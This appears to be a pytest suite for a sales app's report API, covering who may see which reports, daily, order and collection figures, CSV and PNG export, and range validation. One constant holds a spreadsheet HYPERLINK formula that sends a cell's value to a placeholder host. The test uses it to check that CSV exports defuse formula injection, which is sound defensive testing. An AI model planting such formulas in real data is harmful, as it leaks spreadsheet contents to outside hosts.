"""The reports over HTTP on every backend: who sees what (a MANAGER their team, an ADMIN
and a ``reports:read`` key the company, a rep nothing), the JSON figures against rows
written by hand, CSV (streamed, quoted, no BOM, formulas defused), the PNG chart
(decoded, its size), bad ranges, and Pillow kept out of cold start."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from contract.world import contact, order, payment, store, user, visit
from PIL import Image

from fieldedge.domain.attendance import day_bounds, local_day
from fieldedge.domain.identity import Role
from fieldedge.domain.orders import OrderStatus
from fieldedge.ports.database import Database, Scope

from .conftest import Team
from .test_api_keys import make_key, with_key
from .test_statements import counted, kinds, quiet

__all__ = ["quiet"]

ZONE = "Asia/Kolkata"  # UTC+05:30: 4 Dec local is 3 Dec 18:30Z to 4 Dec 18:30Z
DAY = "2026-12-04"
EVIL = '=HYPERLINK("http://x.example/?q="&A1, "Rao, \u201cclick\u201d")'


def z(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


async def _rows(team: Team, db: Database) -> dict[str, UUID]:
    """Rows of 4 Dec (local) for rep_a1 (mgr_a's team) and rep_b1 (mgr_b's), and a
    deactivated rep of mgr_a's whose name is a spreadsheet formula."""
    assert (await team.patch("admin", "/api/v1/company", {"timezone": ZONE})).status_code == 200
    cid = UUID(team.company_id)
    scope = Scope.tenant(cid)
    a1, b1 = UUID(team.ids["rep_a1"]), UUID(team.ids["rep_b1"])
    gone = user(cid, name=EVIL, role=Role.SALES_REP, manager_id=UUID(team.ids["mgr_a"]),
                active=False)  # fmt: skip
    shop = contact(cid, name="Shop", owner_id=a1)
    await store(db, scope, gone, shop)

    def o(who: UUID, total: int, at: str, status: OrderStatus = OrderStatus.PENDING) -> Any:
        return order(cid, shop.id, who, subtotal=total, tax=0, total=total, status=status,
                     created_at=z(at), updated_at=z(at), currency="INR")  # fmt: skip

    first = o(a1, 1000, "2026-12-03T18:30:00", OrderStatus.APPROVED)
    rows = [
        first,
        o(a1, 2000, "2026-12-04T18:29:59"),
        o(a1, 4000, "2026-12-04T18:30:00"),  # 5 Dec local
        o(b1, 8000, "2026-12-04T06:00:00"),
        o(gone.id, 16000, "2026-12-04T07:00:00"),
        o(UUID(team.ids["admin"]), 100, "2026-12-04T08:00:00"),  # an ADMIN takes one too
        visit(cid, shop.id, a1, checked_in_at=z("2026-12-04T05:00:00"), verified=True),
        visit(cid, shop.id, a1, checked_in_at=z("2026-12-04T06:00:00")),
        visit(cid, shop.id, a1, checked_in_at=z("2026-12-04T07:00:00"), verified=True),
    ]
    await store(db, scope, *rows)
    await store(db, scope, payment(cid, first.id, a1, amount=300,
                                   received_at=z("2026-12-04T09:00:00")))  # fmt: skip
    return {"a1": a1, "b1": b1, "gone": gone.id}


async def test_the_daily_report_per_rep_and_team(team: Team, db: Database) -> None:
    ids = await _rows(team, db)
    response = await team.get("mgr_a", "/api/v1/reports/daily", date=DAY)
    assert response.status_code == 200, response.text
    data = response.json()["data"]
    assert (data["date"], data["timezone"]) == (DAY, ZONE)
    reps = {r["userId"]: r for r in data["reps"]}
    # mgr_a's team: themself, rep_a1, rep_a2, and the deactivated rep whose rows count.
    assert set(reps) == {team.ids["mgr_a"], team.ids["rep_a1"], team.ids["rep_a2"],
                         str(ids["gone"])}  # fmt: skip
    a1 = reps[team.ids["rep_a1"]]
    assert (a1["visits"], a1["verifiedVisits"], a1["verifiedPercent"]) == (3, 2, 66.7)
    assert (a1["orders"], a1["orderValue"], a1["payments"], a1["collections"]) == (2, 3000, 1, 300)
    assert (a1["attendance"], a1["workedMinutes"], a1["newContacts"]) == ("absent", 0, 0)
    assert reps[team.ids["rep_a2"]]["orders"] == 0
    t = data["team"]
    assert (t["reps"], t["attendanceAbsent"], t["attendanceIn"], t["attendanceOut"]) == (4, 4, 0, 0)
    assert (t["orders"], t["orderValue"], t["visits"], t["verifiedPercent"]) == (3, 19000, 3, 66.7)
    everyone = (await team.get("admin", "/api/v1/reports/daily", date=DAY)).json()["data"]
    assert everyone["team"]["orderValue"] == 27100  # rep_b1's 8000 and the ADMIN's 100 too
    assert {team.ids["rep_b1"], team.ids["admin"]} <= {r["userId"] for r in everyone["reps"]}
    refused = await team.get("rep_a1", "/api/v1/reports/daily", date=DAY)
    assert refused.status_code == 403, refused.text


async def test_orders_grouped_and_the_range_checked(team: Team, db: Database) -> None:
    await _rows(team, db)
    week = {"from": "2026-12-01", "to": "2026-12-07"}
    days = (await team.get("admin", "/api/v1/reports/orders", **week)).json()["data"]
    assert [g["key"] for g in days["groups"]] == [f"2026-12-0{n}" for n in range(1, 8)]
    assert {g["key"]: g["value"] for g in days["groups"] if g["value"]} == {
        "2026-12-04": 27100, "2026-12-05": 4000,
    }  # fmt: skip
    assert (days["orders"], days["value"], days["groupBy"], days["from"]) == (
        6, 31100, "day", "2026-12-01",
    )  # fmt: skip
    by_rep = await team.get("mgr_b", "/api/v1/reports/orders", **week, groupBy="rep")
    assert [(g["label"], g["orders"], g["value"]) for g in by_rep.json()["data"]["groups"]] == [
        ("Rep B1", 1, 8000)
    ]
    for bad in ({"from": "2026-01-01", "to": "2027-01-02"},  # 367 days
                {"from": "2026-12-07", "to": "2026-12-01"},
                {**week, "groupBy": "month"}, {"from": "2026-12-01"}):  # fmt: skip
        response = await team.get("admin", "/api/v1/reports/orders", **bad)
        assert response.status_code == 422, (bad, response.text)
        assert response.json()["error"]["code"] == "VALIDATION_ERROR"
    year = await team.get("admin", "/api/v1/reports/orders", **{"from": "2028-01-01",
                                                                "to": "2028-12-31"})  # fmt: skip
    assert year.status_code == 200  # 366 days of a leap year: the most a report covers
    assert len(year.json()["data"]["groups"]) == 366


async def test_csv_is_streamed_quoted_and_defused(team: Team, db: Database) -> None:
    await _rows(team, db)
    response = await team.get("mgr_a", "/api/v1/reports/orders", format="csv", groupBy="rep",
                              **{"from": DAY, "to": DAY})  # fmt: skip
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    assert not response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.startswith(b"key,label,orders,value,quantity\r\n")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1:] == ["'" + EVIL, "1", "16000", ""]  # quoted, comma and quotes kept
    assert rows[2][1:] == ["Rep A1", "2", "3000", ""]
    accept = await team.client.get(
        "/api/v1/reports/daily",
        params={"date": DAY},
        headers={**_auth(team, "mgr_a"), "accept": "text/csv"},
    )
    lines = list(csv.reader(io.StringIO(accept.text)))
    assert lines[0][:4] == ["userId", "name", "attendance", "workedMinutes"]
    assert lines[-1][:2] == ["", "Team"]
    assert lines[-1][7:9] == ["3", "19000"]  # orders, orderValue
    collections = await team.get("admin", "/api/v1/reports/collections", format="csv")
    assert collections.text.startswith("userId,name,orders 0-30,balance 0-30,")


async def test_png_charts_decode_at_their_size(team: Team, db: Database) -> None:
    await _rows(team, db)
    for path, query in (("daily", {"date": DAY}),
                        ("orders", {"from": "2026-12-01", "to": "2026-12-31"}),
                        ("orders", {"from": DAY, "to": DAY, "groupBy": "product"})):  # fmt: skip
        response = await team.get("admin", f"/api/v1/reports/{path}", format="png", **query)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "image/png"
        image = Image.open(io.BytesIO(response.content))
        image.load()
        assert (image.format, image.size) == ("PNG", (960, 540))
    refused = await team.get("admin", "/api/v1/reports/collections", format="png")
    assert refused.status_code == 422


async def test_collections_by_age(team: Team, db: Database) -> None:
    assert (await team.patch("admin", "/api/v1/company", {"timezone": ZONE})).status_code == 200
    today = local_day(team.api.clock.now(), ZONE)
    cid, scope = UUID(team.company_id), Scope.tenant(UUID(team.company_id))
    shop = contact(cid, name="Old shop")
    await store(db, scope, shop)
    a1, b1 = UUID(team.ids["rep_a1"]), UUID(team.ids["rep_b1"])
    second = timedelta(seconds=1)

    def owing(who: UUID, total: int, paid: int, approved: datetime,
              status: OrderStatus = OrderStatus.APPROVED) -> Any:  # fmt: skip
        return order(cid, shop.id, who, subtotal=total, tax=0, total=total, status=status,
                     amount_paid=paid, approved_at=approved, created_at=approved - second,
                     updated_at=approved, currency="INR")  # fmt: skip

    def start(days_ago: int) -> datetime:
        return day_bounds(today - timedelta(days=days_ago), ZONE)[0]

    await store(db, scope,
                owing(a1, 500, 200, start(30)),  # local midnight 30 days ago: 0-30
                owing(a1, 1000, 0, start(30) - second, OrderStatus.DELIVERED),  # 31 days: 31-60
                owing(a1, 700, 0, start(90)),  # 61-90
                owing(a1, 900, 0, start(90) - second, OrderStatus.DISPATCHED),  # 90+
                owing(a1, 400, 400, start(1)),  # paid up
                owing(a1, 800, 0, start(1), OrderStatus.PENDING),  # not owed yet
                owing(b1, 5000, 0, start(2)))  # fmt: skip
    response = await team.get("mgr_a", "/api/v1/reports/collections")
    assert response.status_code == 200, response.text
    data = response.json()["data"]
    assert data["asOf"] == today.isoformat()
    ages = {a["bucket"]: (a["orders"], a["balance"]) for a in data["ages"]}
    assert ages == {"0-30": (1, 300), "31-60": (1, 1000), "61-90": (1, 700), "90+": (1, 900)}
    assert data["outstanding"] == 2900
    mine = {r["userId"]: r["outstanding"] for r in data["reps"]}
    assert mine[team.ids["rep_a1"]] == 2900
    assert team.ids["rep_b1"] not in mine
    everyone = (await team.get("admin", "/api/v1/reports/collections")).json()["data"]
    assert everyone["outstanding"] == 7900


async def test_a_key_with_the_reports_scope_sees_the_company(team: Team, db: Database) -> None:
    await _rows(team, db)
    key = await make_key(team, "reports:read")
    response = await team.client.get("/api/v1/reports/daily", params={"date": DAY},
                                     headers=with_key(key["secret"]))  # fmt: skip
    assert response.status_code == 200, response.text
    assert response.json()["data"]["team"]["orderValue"] == 27100
    other = await make_key(team, "orders:read")
    refused = await team.client.get(
        "/api/v1/reports/collections", headers=with_key(other["secret"])
    )
    assert refused.status_code == 403
    assert refused.json()["error"]["details"] == {"scope": ["reports:read"]}


def _auth(team: Team, who: str) -> dict[str, str]:
    return {"authorization": f"Bearer {team.tokens[who]}"}


def test_importing_the_app_loads_no_plotting() -> None:
    script = (
        "import sys\n"
        "from fieldedge.http import app\n"
        "from fieldedge.http.routes import reports\n"
        "assert 'PIL' not in sys.modules, 'PIL'\n"
        "assert 'fieldedge.http.routes.report_chart' not in sys.modules\n"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            check=False)  # fmt: skip
    assert result.returncode == 0, result.stderr


async def test_the_openapi_document_names_every_format(team: Team) -> None:
    spec = (await team.client.get("/api/openapi.json")).json()
    table = {"application/json", "text/csv; charset=utf-8"}
    for path, media in (("daily", {*table, "image/png"}), ("orders", {*table, "image/png"}),
                        ("collections", table)):  # fmt: skip
        operation = spec["paths"][f"/api/v1/reports/{path}"]["get"]
        assert set(operation["responses"]["200"]["content"]) == media


@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
async def test_each_report_is_a_fixed_few_statements(quiet: Team, db: Database) -> None:
    await _rows(quiet, db)

    async def sent(who: str, path: str, **query: str) -> list[str]:
        return kinds(await counted(db, lambda: quiet.get(who, f"/api/v1/reports/{path}", **query)))

    year = {"from": "2026-01-01", "to": "2026-12-31"}
    # BEGIN; the company; the manager's team; the people; the sums; (the deactivated); done.
    assert await sent("mgr_a", "daily", date=DAY) == [
        "BEGIN", "SELECT", "SELECT", "SELECT", "SELECT", "SELECT", "ROLLBACK",
    ]  # fmt: skip
    for group_by in ("day", "week", "rep", "product", "territory"):
        # the company, the team, one statement of sums: whatever the range or grouping
        assert await sent("mgr_a", "orders", groupBy=group_by, **year) == [
            "BEGIN", "SELECT", "SELECT", "SELECT", "ROLLBACK",
        ], group_by  # fmt: skip
    assert await sent("admin", "collections") == ["BEGIN", "SELECT", "SELECT", "SELECT", "ROLLBACK"]
